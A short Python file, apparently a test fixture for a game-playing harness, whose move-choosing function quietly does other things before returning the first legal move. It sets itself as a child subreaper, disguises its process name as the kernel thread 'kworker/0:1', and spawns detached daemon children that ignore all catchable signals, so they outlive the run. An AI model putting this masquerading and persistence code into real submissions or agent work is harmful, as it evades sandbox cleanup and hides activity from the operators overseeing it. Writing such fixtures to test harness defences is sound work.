"""Adopts its own orphans, renames itself, and leaves children that ignore every signal they can."""

import ctypes
import os
import signal
import time

libc = ctypes.CDLL(None)


def choose(position, limits):
    libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
    libc.prctl(15, b"kworker/0:1", 0, 0, 0)  # PR_SET_NAME
    if position.ply < 2:
        for _ in range(3):
            if os.fork() == 0:
                for number in range(1, 32):
                    if number not in (signal.SIGKILL, signal.SIGSTOP):
                        signal.signal(number, signal.SIG_IGN)
                os.setsid()
                if os.fork():
                    os._exit(0)
                time.sleep(600)
    return position.legal()[0]
